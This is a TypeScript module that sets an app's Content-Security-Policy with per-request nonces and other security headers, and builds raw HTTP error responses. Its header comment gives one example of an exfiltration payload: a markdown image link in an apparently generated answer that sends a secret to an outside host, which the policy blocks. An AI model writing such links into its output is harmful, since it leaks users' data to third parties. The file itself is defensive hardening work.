/**
 * The security headers every answer of the app carries, pages and API alike, set by the app's HTTP server (server.ts)
 * before Next.js handles the request. Pure apart from drawing a nonce.
 *
 * The Content-Security-Policy lets the page run only scripts carrying the per-request nonce (and the scripts those
 * load, 'strict-dynamic'): Next.js reads the nonce from the request's own `content-security-policy` header, which the
 * server sets to the same policy, and puts it on every script it renders — which needs every page rendered per request
 * (app/layout.tsx). Images, fetches and fonts come only from this origin (plus data: and blob: images for previews),
 * so an answer that writes `![](https://elsewhere/?q=secret)` cannot make the browser send anything elsewhere; no
 * plugin, no <base>, no framing by any page ('none'). Styles may be inline: React writes style attributes.
 * In development Next.js evaluates code for hot reloading, which needs 'unsafe-eval'.
 */

import { randomBytes } from "node:crypto";
import { STATUS_CODES } from "node:http";
import type { ApiErrorBody } from "@/lib/api/types";

export function newNonce(): string {
  return randomBytes(16).toString("base64");
}

export function contentSecurityPolicy(options: { nonce: string; dev: boolean }): string {
  return [
    "default-src 'self'",
    `script-src 'self' 'nonce-${options.nonce}' 'strict-dynamic'${options.dev ? " 'unsafe-eval'" : ""}`,
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "font-src 'self'",
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ].join("; ");
}

/**
 * The nonce a policy built by `contentSecurityPolicy` allows scripts by, or undefined for any other policy (or none).
 */
export function nonceOfPolicy(policy: string | null): string | undefined {
  return policy?.match(/'nonce-([A-Za-z0-9+/=]+)'/)?.[1];
}

/** The headers besides the CSP (which `contentSecurityPolicy` builds per request). */
export const SECURITY_HEADERS: Readonly<Record<string, string>> = {
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "no-referrer",
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
  "permissions-policy": "camera=(), microphone=(), geolocation=(), payment=(), usb=()",
};

/**
 * A complete HTTP/1.1 response for a request Node's parser refused before any handler saw it (a header section over
 * the size limit: 431; anything else malformed: 400), JSON like every other error of the API, and closing the
 * connection, since the rest of the request cannot be read.
 */
export function rawErrorResponse(status: 400 | 431, code: string, message: string): string {
  const body = JSON.stringify({ error: { code, message } } satisfies ApiErrorBody);
  const headers = {
    "content-type": "application/json",
    "content-length": String(Buffer.byteLength(body)),
    "cache-control": "no-store",
    connection: "close",
    "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
    ...SECURITY_HEADERS,
  };
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
  return `HTTP/1.1 ${status} ${STATUS_CODES[status]}\r\n${lines.join("\r\n")}\r\n\r\n${body}`;
}
